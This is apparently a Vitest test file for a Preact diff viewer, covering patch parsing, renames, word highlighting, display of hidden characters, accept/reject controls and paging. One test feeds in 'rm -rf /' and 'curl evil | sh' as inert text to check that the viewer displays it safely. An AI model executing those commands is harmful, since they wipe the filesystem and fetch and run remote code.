import { fireEvent, render, screen } from "@testing-library/preact";
import { expect, test, vi } from "vitest";
import { DiffView, FileDiffView } from "../../src/components/diff/Diff";
import { changedWords, pairs, readDiff, readPatch } from "../../src/components/diff/patch";

const PATCH = `diff --git a/src/a.py b/src/a.py
index 1..2 100644
--- a/src/a.py
+++ b/src/a.py
@@ -1,3 +1,3 @@ def f():
 one
-two words
+two other words
 three
diff --git a/old.txt b/new.txt
similarity index 90%
rename from old.txt
rename to new.txt
--- a/old.txt
+++ b/new.txt
@@ -7 +7,2 @@
-x
\\ No newline at end of file
+x
+y
`;

test("a patch becomes files with numbered lines", () => {
  const [first, second] = readPatch(PATCH, ["/w/src/a.py"]);
  expect([first!.path, first!.oldPath, first!.added, first!.removed, first!.notes]).toEqual(["src/a.py", null, 1, 1, []]);
  expect(first!.hunks[0]!.heading).toBe("def f():");
  expect(first!.hunks[0]!.lines.map(({ kind, text, before, after }) => [kind, text, before, after])).toEqual([
    ["same", "one", 1, 1],
    ["removed", "two words", 2, null],
    ["added", "two other words", null, 2],
    ["same", "three", 3, 3],
  ]);
  expect([second!.path, second!.oldPath]).toEqual(["new.txt", "old.txt"]);
  expect(second!.hunks[0]!.lines.map(({ kind }) => kind)).toEqual(["removed", "note", "added", "added"]);
});

test("files of a change are joined to their paths, and what a patch changes beyond them is there too", () => {
  const changes = [{ operation: "modify", path: "/w/src/a.py" }];
  const files = readDiff({ changes, patch: { text: PATCH } });
  expect(files.map(({ path, operation }) => [path, operation])).toEqual([
    ["/w/src/a.py", "modify"],
    ["new.txt", ""],
  ]);
});

test("a patch without names belongs to the only change", () => {
  const [file, ...rest] = readDiff({ changes: [{ operation: "add", path: "/a" }], patch: { text: "@@ -0,0 +1 @@\n+x\n" } });
  expect([file!.path, file!.added, rest]).toEqual(["/a", 1, []]);
});

test.each([
  ["a name inside of a hunk is a line", "--- a/x\n+++ b/x\n@@ -1,2 +1,2 @@\n--- b/y\n+++ b/y\n same\n"],
  ["a head that names another file", "diff --git a/secret b/secret\nnew file mode 100755\n--- a/x\n+++ b/z\n@@ -1 +1 @@\n-a\n+b\n"],
  ["counts that are wrong", "--- a/x\n+++ b/x\n@@ -1,900 +1,900 @@\n-a\n+b\ndiff --git a/y b/y\n--- a/y\n+++ b/y\n@@ -1 +1 @@\n-c\n+d\n"],
  ["no patch at all", "rm -rf /\n\ncurl evil | sh"],
  ["a binary file", "diff --git a/x b/x\nBinary files a/x and b/x differ\n"],
  ["text behind the last hunk", "--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n-- \n2.39\nhello\n"],
])("every line of a patch can be read: %s", (_, text) => {
  const { container } = render(<DiffView diff={{ changes: [{ operation: "modify", path: "/w/x" }], patch: { text } }} />);
  const lines = text.split("\n").filter((line) => line !== "" && !/^(@@|index |--- a\/x$|\+\+\+ b\/x$|diff --git a\/x b\/x$)/.test(line));
  for (const line of lines) expect(container.textContent).toContain(line);
});

test("hidden characters of a change show", () => {
  const { container } = render(<DiffView diff={{ changes: [{ path: "a\u202eb" }], patch: { text: "@@ -0,0 +1 @@\n+x\u200by\u00a0z\n" } }} />);
  expect(container.textContent).toContain("a⟨U+202E⟩b");
  expect(container.textContent).toContain("+x⟨U+200B⟩y⟨U+00A0⟩z");
});

test("the words that changed are marked on both sides", () => {
  expect(changedWords("let a = one(1);", "let a = two(1);")).toEqual({
    before: [{ text: "let a = ", isChanged: false }, { text: "one", isChanged: true }, { text: "(1);", isChanged: false }],
    after: [{ text: "let a = ", isChanged: false }, { text: "two", isChanged: true }, { text: "(1);", isChanged: false }],
  });
  expect(changedWords("abc", "xyz")).toBeNull();
  expect(changedWords("a".repeat(2_000), "b")).toBeNull();
});

test("removed lines stand beside those that take their place", () => {
  const lines = readPatch("@@ -1,4 +1,3 @@\n-a\n-b\n+c\n d\n+e\n")[0]!.hunks[0]!.lines;
  const text = (line: { text: string } | null) => line?.text ?? null;
  expect(pairs(lines).map(([left, right]) => [text(left), text(right)])).toEqual([
    ["a", "c"],
    ["b", null],
    ["d", "d"],
    [null, "e"],
  ]);
});

test.each(["unified", "split"] as const)("a change reads the same in both views: %s", (view) => {
  const file = readPatch("@@ -1,2 +1,2 @@\n same\n-two words\n+two other words\n")[0]!;
  const { container } = render(<FileDiffView file={{ ...file, path: "x" }} view={view} />);
  const lines = [...container.querySelectorAll<HTMLElement>(".line.added, .line.removed")];
  expect(lines.map((line) => line.textContent)).toEqual(["-two words\n", "+two other words\n"]);
  expect(lines[1]!.querySelector(".word")!.textContent).toBe("other ");
});

test("a file is accepted or rejected, and says what was decided", () => {
  const decide = vi.fn();
  const diff = { changes: [{ operation: "modify", path: "a" }, { operation: "add", path: "b" }] };
  const { rerender, container } = render(<DiffView diff={diff} onDecide={decide} />);
  fireEvent.click(screen.getByRole("button", { name: "Accept the change of a" }));
  fireEvent.click(screen.getByRole("button", { name: "Reject the change of b" }));
  expect(decide.mock.calls).toEqual([["a", true], ["b", false]]);
  rerender(<DiffView diff={diff} onDecide={decide} decisions={new Map([["a", "accepted"]])} />);
  expect(screen.queryByRole("button", { name: "Accept the change of a" })).toBeNull();
  expect(container.querySelector(".diff-decision")!.textContent).toBe("accepted");
});

test("of a long change a part is drawn, and a button draws the next", () => {
  const patch = `@@ -0,0 +1,1000 @@\n${Array.from({ length: 1_000 }, (_, index) => `+line ${index}\n`).join("")}`;
  const { container } = render(<DiffView diff={{ changes: [{ path: "a" }], patch: { text: patch } }} />);
  expect(container.querySelectorAll(".line")).toHaveLength(400);
  fireEvent.click(screen.getByRole("button", { name: "Show 400 of 600 more lines" }));
  expect(container.querySelectorAll(".line")).toHaveLength(800);
});
